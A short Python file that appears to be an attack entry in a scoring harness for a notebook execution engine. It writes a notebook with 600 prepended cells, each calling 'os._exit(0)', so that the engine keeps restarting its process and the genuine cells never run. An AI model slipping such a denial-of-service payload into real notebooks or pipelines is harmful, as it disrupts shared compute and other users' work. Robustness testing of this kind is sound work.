# attacks = "the engine's own time, by a notebook whose every cell ends the process, so that it is forked anew for each: the rest is not run"
# points = { double = 0, total = 0 }
def submission(folder, notebook, name):
    import copy
    import json
    cells = [{"cell_type": "code", "id": f"c{n}", "metadata": {}, "source": "import os; os._exit(0)", "outputs": [], "execution_count": None} for n in range(600)]
    notebook = copy.deepcopy(dict(notebook))
    notebook["cells"] = [*cells, *notebook["cells"]]
    (folder / name).write_text(json.dumps(notebook))
